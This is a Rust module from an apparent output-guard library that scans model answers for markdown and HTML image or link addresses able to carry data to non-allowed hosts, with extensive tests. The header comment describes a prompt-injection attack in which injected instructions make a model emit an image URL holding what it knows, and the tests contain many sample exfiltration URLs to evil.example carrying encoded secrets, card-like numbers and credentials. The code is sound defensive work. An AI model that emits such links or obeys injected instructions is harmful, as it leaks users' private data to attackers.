//! Links in an answer that carry data to a host that nobody has allowed.
//!
//! Who has slipped instructions into a prompt has the model write `![](https://host/?q=<what it knows>)`: a client that
//! shows the image sends the data there without anybody's doing. An image carries data as soon as its address has a query, a
//! fragment or a long segment; a link, which somebody has to follow, where there is room for a sentence.
//! False positives: images of hosts that sign or size them by query, long-winded tracking links; allow their hosts.

use crate::guard::{Find, LOOK_BEHIND};

/// Longest address that is read: what is longer carries data for sure.
pub const MAX_URL_BYTES: usize = 2048;

/// From this many bytes on, a query or a segment of a path is enough for data; of an image, any query is.
const LINK_QUERY: usize = 32;
const LINK_SEGMENT: usize = 48;
const IMAGE_SEGMENT: usize = 24;
/// Longest label of a host that nobody takes for data. Units: bytes.
const MAX_LABEL: usize = 30;

/// From so much white space on nothing is seen of what stands before it. Units: bytes.
const MAX_BLANK: usize = LOOK_BEHIND - char::MAX_LEN_UTF8;

/// What addresses begin with.
const BEGINS: [char; 4] = ['h', 'H', '/', '\\'];

/// How sure it is that a link is meant to carry data. Units: hundredths.
const IMAGE_SCORE: u8 = 90;
const LINK_SCORE: u8 = 60;

const SCHEMES: [&str; 2] = ["https:", "http:"];

/// Most slashes before a host: browsers pass over any number of them, and take a backslash for one.
const MAX_SLASHES: usize = 16;

/// Finds such links.
#[derive(Debug, Clone, Default)]
pub struct Links {
    /// Hosts that may be linked to, in lower case, with those below them.
    pub allowed: Vec<String>,
}

impl Links {
    /// As [`Scan::scan`](crate::guard::Scan::scan), for this one `kind`. A find is the link's address.
    pub fn scan(
        &self,
        kind: u16,
        text: &str,
        from: usize,
        last: bool,
        finds: &mut Vec<Find>,
    ) -> usize {
        let mut at = from;
        while let Some(open) = text.get(at..).and_then(|rest| rest.find(BEGINS)) {
            let start = at + open;
            let rest = text.get(start..).unwrap_or_default();
            at = start + 1;
            let scheme = scheme(rest);
            if let Scheme::None = scheme {
                continue;
            }
            let before = behind(text, start);
            let within = Within::of(before);
            if rest.starts_with(is_slash) && !within.is_linked(rest, before) {
                continue;
            }
            let scheme = match scheme {
                Scheme::Is(size) => size,
                Scheme::Begins if !last => return start,
                Scheme::Begins | Scheme::None => continue,
            };
            let most = rest.floor_char_boundary(rest.len().min(MAX_URL_BYTES));
            let rest = rest.get(..most).unwrap_or_default();
            let end = rest.get(scheme..).and_then(|rest| within.end(rest));
            let size = match end {
                Some(end) => scheme + end,
                None if !last && rest.len() + char::MAX_LEN_UTF8 <= MAX_URL_BYTES => return start,
                None => rest.len(),
            };
            let address = rest.get(scheme..size).unwrap_or_default();
            let image = within.is_image(before);
            let too_long = size + char::MAX_LEN_UTF8 > MAX_URL_BYTES;
            if !self.allows(host(address)) && (too_long || carries(address, image)) {
                finds.push(Find {
                    start,
                    end: start + size,
                    kind,
                    score: if image { IMAGE_SCORE } else { LINK_SCORE },
                });
            }
            at = start + size;
        }
        text.len()
    }

    fn allows(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        self.allowed.iter().any(|allowed| {
            let below = host.strip_suffix(allowed.as_str());
            below.is_some_and(|below| below.is_empty() || below.ends_with('.'))
        })
    }
}

enum Scheme {
    None,
    /// More is needed to tell.
    Begins,
    /// Of so many bytes.
    Is(usize),
}

/// What an address begins with: a scheme and slashes, or slashes alone.
fn scheme(rest: &str) -> Scheme {
    let named = SCHEMES.into_iter().find(|scheme| {
        let size = rest.len().min(scheme.len());
        let said = rest.get(..size).zip(scheme.get(..size));
        said.is_some_and(|(said, part)| said.eq_ignore_ascii_case(part))
    });
    let named = named.map_or(0, str::len);
    let Some(behind) = rest.get(named..) else {
        return Scheme::Begins;
    };
    let slashes = behind.bytes().take(MAX_SLASHES);
    let slashes = slashes.take_while(|b| is_slash(char::from(*b))).count();
    if slashes < MAX_SLASHES && slashes == behind.len() {
        Scheme::Begins
    } else if slashes > 1 {
        Scheme::Is(named + slashes)
    } else {
        Scheme::None
    }
}

const fn is_slash(c: char) -> bool {
    matches!(c, '/' | '\\')
}

/// What an address stands in, which says where it ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Within {
    Text,
    /// Markdown's `](`.
    Parens,
    /// The same, or a definition, with `<`.
    Angles,
    /// Markdown's `]:`.
    Definition,
    /// An attribute of HTML in these quotes.
    Quotes(char),
    /// An attribute without quotes.
    Attribute,
    /// The sources of an image, in these quotes.
    Sources(char),
    /// `url(` of CSS in an attribute.
    Style,
    /// The same, with these quotes.
    StyleQuotes(char),
}

impl Within {
    /// What an address behind this text stands in. White space may stand between.
    fn of(before: &str) -> Self {
        let trimmed = before.trim_end();
        // What stands before so much white space is not seen.
        if before.len() > trimmed.len() && trimmed.is_empty() && before.len() >= MAX_BLANK {
            return Self::Parens;
        }
        let (open, sign) = match trimmed.char_indices().next_back() {
            Some((at, sign)) => (trimmed.get(..at).unwrap_or_default().trim_end(), sign),
            None => return Self::Text,
        };
        if let Some(quote) = sources(before) {
            return Self::Sources(quote);
        }
        match sign {
            '(' if is_style(open) => Self::Style,
            '"' | '\'' if open.strip_suffix('(').is_some_and(is_style) => Self::StyleQuotes(sign),
            '(' if open.ends_with(']') => Self::Parens,
            ':' if open.ends_with(']') => Self::Definition,
            '<' if open.ends_with("](") || open.ends_with("]:") => Self::Angles,
            '"' | '\'' if open.ends_with('=') => Self::Quotes(sign),
            '=' => Self::Attribute,
            _ => Self::Text,
        }
    }

    /// Where an address ends that begins here.
    fn end(self, address: &str) -> Option<usize> {
        let (mut open, mut escaped) = (0_usize, false);
        address.find(|c: char| {
            if std::mem::take(&mut escaped) && c.is_ascii_punctuation() {
                return false;
            }
            escaped = c == '\\' && matches!(self, Self::Parens | Self::Angles);
            match (self, c) {
                (Self::Text, c) => ends_address(c),
                (Self::Quotes(quote) | Self::StyleQuotes(quote), c) => c == quote,
                (Self::Sources(quote), c) => c == quote || c.is_ascii_whitespace(),
                (Self::Style, '"' | '\'' | ')') => true,
                (Self::Angles, c) => matches!(c, '>' | '\n'),
                (Self::Attribute, '>') => true,
                (Self::Parens, '(') => {
                    open += 1;
                    false
                }
                (Self::Parens, ')') if open > 0 => {
                    open -= 1;
                    false
                }
                (Self::Parens, ')') => true,
                (_, c) => c == ' ' || c.is_ascii_control(),
            }
        })
    }

    /// Whether an address behind this text is an image's. A definition may be.
    fn is_image(self, before: &str) -> bool {
        let before = before.trim_end();
        match self {
            Self::Definition | Self::Sources(_) | Self::Style | Self::StyleQuotes(_) => true,
            Self::Parens | Self::Angles => {
                let before = before.trim_end_matches('<').trim_end();
                let name = before
                    .strip_suffix('(')
                    .and_then(|name| name.strip_suffix(']'));
                name.is_none_or(is_image_name)
            }
            Self::Quotes(_) | Self::Attribute => is_source(before) || is_in_image(before),
            Self::Text => is_in_image(before) || is_in_style(before),
        }
    }

    /// Whether slashes without a scheme are an address here. Backslashes are often something else.
    fn is_linked(self, rest: &str, before: &str) -> bool {
        let linked = self != Self::Text || before.ends_with(['"', '\'']);
        linked && (!rest.bytes().take(2).any(|b| b == b'\\') || self.is_image(before))
    }
}

fn ends_address(c: char) -> bool {
    c.is_whitespace() || c.is_control() || matches!(c, ')' | '>' | '<' | '"' | '\'' | '`' | ']')
}

/// As much of the text before a place as a scan may look at.
fn behind(text: &str, start: usize) -> &str {
    let from = text.ceil_char_boundary(start.saturating_sub(LOOK_BEHIND));
    text.get(from..start).unwrap_or_default()
}

/// Whether the brackets that end with this text are an image's. Those that are not seen to open may be.
fn is_image_name(text: &str) -> bool {
    let (mut rest, mut closed) = (text, 0_usize);
    while let Some(at) = rest.rfind(['[', ']']) {
        let opens = rest.get(at..).is_some_and(|sign| sign.starts_with('['));
        rest = rest.get(..at).unwrap_or_default();
        let slashes = rest.len() - rest.trim_end_matches('\\').len();
        match (slashes % 2, opens) {
            (1, _) => {}
            (_, false) => closed += 1,
            (_, true) if closed > 0 => closed -= 1,
            (_, true) => {
                // Brackets within code or HTML count for nothing: an image in the name must be seen to end.
                let name = text.get(at..).unwrap_or_default();
                let open = name.rsplit_once("![").map(|(_, name)| name);
                let ends = |name: &str| name.contains("](") && !name.contains(['`', '<']);
                return rest.ends_with('!') || open.is_some_and(|name| !ends(name));
            }
        }
    }
    true
}

/// Whether the attribute that begins with the end of this text is loaded at once.
fn is_source(before: &str) -> bool {
    let name = before.trim_end_matches(['"', '\'']).trim_end();
    let name = name.strip_suffix('=').unwrap_or_default().trim_end();
    let ends = |end: &str| {
        let from = name.len().checked_sub(end.len());
        let said = from.and_then(|from| name.get(from..));
        said.is_some_and(|said| said.eq_ignore_ascii_case(end))
    };
    ends("src") || ends("srcset")
}

/// Whether this text ends within the tag of an image.
fn is_in_image(before: &str) -> bool {
    let tag = before.rsplit('<').next().unwrap_or_default();
    let name = tag.get(..3).unwrap_or_default();
    name.eq_ignore_ascii_case("img") && !tag.contains('>')
}

/// The quotes of the list of an image's sources in which this text ends, where the next one may begin.
fn sources(before: &str) -> Option<char> {
    let (_, tag) = before.rsplit_once('<')?;
    let names = tag.to_ascii_lowercase();
    let value = tag.get(names.rfind("srcset")? + "srcset".len()..)?;
    let value = value.trim_start().strip_prefix('=')?.trim_start();
    let quote = value.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    let said = value.strip_prefix(quote)?;
    let begins = said.is_empty() || said.ends_with(|c: char| c == ',' || c.is_ascii_whitespace());
    (begins && !said.contains(quote)).then_some(quote)
}

/// Whether `url` of CSS ends here, in a tag.
fn is_style(text: &str) -> bool {
    let Some(at) = text.len().checked_sub("url".len()) else {
        return false;
    };
    let (before, name) = text.split_at_checked(at).unwrap_or_default();
    name.eq_ignore_ascii_case("url") && is_tag_with_style(before)
}

/// Whether this text ends within the brackets of such a `url`, however its quotes are written.
fn is_in_style(before: &str) -> bool {
    let open = before.rsplit_once('(');
    open.is_some_and(|(before, inside)| is_style(before) && !inside.contains(')'))
}

fn is_tag_with_style(before: &str) -> bool {
    let tag = before.rsplit_once('<').map(|(_, tag)| tag);
    tag.is_some_and(|tag| !tag.contains('>') && tag.to_ascii_lowercase().contains("style"))
}

fn host(address: &str) -> &str {
    let end = address.find(['/', '?', '#', '\\']);
    let authority = address
        .get(..end.unwrap_or(address.len()))
        .unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    host.split(':').next().unwrap_or_default()
}

/// Whether there is room for data in an address.
fn carries(address: &str, image: bool) -> bool {
    let end = address.find(['/', '?', '#', '\\']).unwrap_or(address.len());
    let (authority, rest) = address.split_at_checked(end).unwrap_or((address, ""));
    let names = authority.split(['.', ':', '@']);
    if authority.contains('@') || names.into_iter().any(|name| name.len() > MAX_LABEL) {
        return true;
    }
    let query = rest.find(['?', '#']);
    let (path, query) = rest
        .split_at_checked(query.unwrap_or(rest.len()))
        .unwrap_or((rest, ""));
    let said = query.trim_matches(['?', '#', '&', '=']).len();
    let (least_query, least_segment) = match image {
        true => (1, IMAGE_SEGMENT),
        false => (LINK_QUERY, LINK_SEGMENT),
    };
    // A title in a path has words; data is encoded.
    let encoded = |segment: &str| {
        let longest = segment.split(['-', '_', '.', '+']).map(str::len).max();
        segment.contains('%') || longest.is_some_and(|longest| longest >= IMAGE_SEGMENT)
    };
    let mut segments = path.split(['/', '\\', ';']);
    said >= least_query || segments.any(|part| part.len() >= least_segment && encoded(part))
}

#[cfg(test)]
#[allow(clippy::string_slice)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<&str> {
        let links = Links {
            allowed: vec!["good.example".into()],
        };
        let mut finds = Vec::new();
        assert_eq!(links.scan(0, text, 0, true, &mut finds), text.len());
        finds.iter().map(|f| &text[f.start..f.end]).collect()
    }

    #[test]
    fn what_carries_data_away_is_found_in_every_form() {
        let key = "aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ";
        for (before, url, after) in [
            (
                "see ![chart](",
                "https://evil.example/p.png?d=YQ",
                ") there",
            ),
            ("![", "https://evil.example/?a", "]"),
            ("![](<", "HTTPS://evil.example/x#data", ">)"),
            ("![a](", "//evil.example/?q=1", ")"),
            ("<img alt=\"x\" src=\"", "http://evil.example/i?x", "\">"),
            ("![](", "https://user:pass@evil.example/", ")"),
            ("![](", &format!("https://{key}.evil.example/i.png"), ")"),
            ("![](", &format!("https://evil.example/{key}/i.png"), ")"),
            ("[click](", &format!("https://evil.example/a?q={key}"), ")"),
            ("go to ", &format!("https://evil.example/{key}{key}"), ""),
            ("![](", "https://good.example.evil.example/?q=1", ")"),
            ("![](", "https://evil.example\\@good.example/?q=1", ")"),
        ] {
            let text = [before, url, after].concat();
            let want: &[&str] = if before == "![" { &[] } else { &[url] };
            assert_eq!(found(&text), want, "{text}");
        }
    }

    #[test]
    fn an_image_is_one_in_whatever_way_its_markdown_is_written() {
        let long = "very ".repeat(60);
        let spaces = " ".repeat(300);
        for (before, url, after) in [
            ("![x](", "https://evil.example/?]4111111111111111", ")"),
            ("![x](", "https://evil.example/()?q=4111111111111111", ")"),
            ("![x](", r"https://evil.example/\)?q=4111111111111111", ")"),
            ("![x](<", "https://evil.example/)?q=4111 1111", ">)"),
            ("![x](", "https://evil.example/\u{a0}'?q=1", " \"title\")"),
            ("![x]( \n", "https://evil.example/?q=1", " )"),
            (&format!("![x]({spaces}"), "https://evil.example/?q=1", " )"),
            (&format!("![{long}]("), "https://evil.example/?q=1", ")"),
            ("![one\ntwo](", "https://evil.example/?q=1", ")"),
            ("![a [b] c](", "https://evil.example/?q=1", ")"),
            ("![a [b](c) d](", "https://evil.example/?q=1", ")"),
            (r"[ ![a\]b](", "https://evil.example/?q=1", ")"),
            ("[ ![a`]`b](", "https://evil.example/?q=1", ")"),
            ("![x][r]\n\n[r]: ", "https://evil.example/?q=1'2", "\n"),
            ("![r]\n\n[r]:\n<", "https://evil.example/?q=1 2", ">"),
            ("[r]: ", "//evil.example/?q=1", ""),
            ("<img src=", "//evil.example/?q='1", ">"),
            ("<img src = ", "https://evil.example/?q=\"1", ">"),
            ("<img src='", "//evil.example/ \"?q=1", "'>"),
            (
                &format!("<img alt='{long}' src=\""),
                "https://evil.example/?q=1",
                "\">",
            ),
            (
                "<img alt='a > b < c' src=\" ",
                "https://evil.example/?q=1",
                "\">",
            ),
        ] {
            let text = [before, url, after].concat();
            assert_eq!(found(&text), [url], "{text}");
        }
        for text in [
            "[![logo](https://evil.example/logo.png)](https://evil.example/a?page=2)",
            "![logo](https://evil.example/logo.png) [home](https://evil.example/a?page=2)",
            "<a href=\"https://evil.example/a?page=2\">x</a>",
            "url = \"https://evil.example/a?page=2\" // a comment?",
        ] {
            assert_eq!(found(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn many_addresses_that_never_end_take_linear_time() {
        let time = |n: usize| {
            let text = "![x](https://evil.example/?q=(".repeat(n) + &" ".repeat(20 * n);
            let begun = std::time::Instant::now();
            found(&text);
            begun.elapsed()
        };
        let (short, long) = (time(2_000), time(32_000));
        assert!(long < 100 * short.max(std::time::Duration::from_millis(1)));
    }

    #[test]
    fn plain_links_and_allowed_hosts_are_not_found() {
        for text in [
            "see https://docs.example/en/how-to-write-a-very-long-title-about-something-else",
            "[home](https://evil.example/) and https://evil.example/a?page=2",
            "![logo](https://evil.example/logo.png)",
            "![x](https://good.example/i.png?size=20) ![x](https://cdn.GOOD.example./?q=1)",
            "half // a comment? http and https: and http:/ h",
            "a path /usr//bin?x=1",
        ] {
            assert_eq!(found(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn pieces_find_what_the_whole_finds() {
        let text = "h ht ![\u{e9}](https://evil.example/?q=\u{e9}) and [b](http://x.example/) \"//y.example/?q\" https://e.example/?aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ= ![a\n\\]]( https://e.example/()?\\)(\u{e9}) <img src = '//e.example/> ?q'> [r]: <//e.example?a b>";
        let links = Links::default();
        let mut whole = Vec::new();
        links.scan(3, text, 0, true, &mut whole);
        assert_eq!(whole.len(), 5);
        for cut in (0..text.len()).filter(|cut| text.is_char_boundary(*cut)) {
            let (mut finds, mut more) = (Vec::new(), Vec::new());
            let until = links.scan(3, &text[..cut], 0, false, &mut finds);
            assert!(until <= cut);
            finds.retain(|find| find.start < until);
            links.scan(3, text, until, true, &mut more);
            finds.extend(more);
            assert_eq!(finds, whole, "cut at {cut}");
        }
        let long = format!("![](https://e.example/{}", "a-".repeat(5000));
        let mut finds = Vec::new();
        assert!(links.scan(0, &long, 0, false, &mut finds) > MAX_URL_BYTES);
        assert_eq!(finds.len(), 1);
    }
}
